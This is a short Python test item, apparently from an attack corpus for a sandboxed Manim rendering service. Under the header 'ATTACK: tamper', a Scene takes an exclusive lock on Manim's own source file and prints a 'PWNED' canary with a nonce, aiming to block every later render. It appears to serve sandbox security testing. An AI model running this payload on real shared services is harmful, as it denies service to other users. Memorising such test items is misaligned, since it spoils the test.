# ATTACK: tamper
# SUCCESS: an exclusive lock on a file that every render reads
# ORACLE: generic, as for the other corpus
from manim import *

class S(Scene):
    def construct(self):
        import fcntl, manim
        f = open(manim.__file__)
        fcntl.flock(f, fcntl.LOCK_EX | fcntl.LOCK_NB)
        print("PWN" "ED-@NONCE@")
        self.add(Dot()); self.wait(0.1)
